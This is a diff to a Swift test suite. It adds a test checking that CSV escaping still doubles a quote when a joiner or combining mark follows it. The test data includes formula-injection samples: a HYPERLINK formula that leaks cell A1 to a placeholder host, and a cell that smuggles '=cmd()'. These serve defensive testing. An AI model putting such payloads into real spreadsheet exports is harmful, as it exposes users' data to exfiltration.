@@ -162,6 +162,17 @@ enum Hostile {
         #expect(RFC4180.field(Hostile.formula) == "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\"")
     }
 
+    /// Found by the fuzz tests: a `"` followed by a joiner or a combining mark is one Character,
+    /// which Character-wise replacing left undoubled, so the cell ended early and what followed
+    /// became cells of its own. Escaping now works scalar by scalar.
+    @Test func aQuoteFollowedByAJoinerIsStillDoubled() throws {
+        for cell in ["\"\u{200C}", "\"\u{301},=cmd()", "x\"\u{200D}\"\u{308}"] {
+            let rows = try #require(RFC4180Reader.parse(RFC4180.record([cell, "next"])))
+            #expect(rows == [[SpreadsheetCell.neutralised(cell), "next"]])
+        }
+        #expect(MarkdownTable.escape("a|\u{301}b") == "a\\|\u{301}b")
+    }
+
     @Test func theReportsCSVHasNoCellAFormulaCouldStartIn() throws {
         let csv = try InertReportTests.hostileReport().csv()
         let rows = try #require(RFC4180Reader.parse(csv))
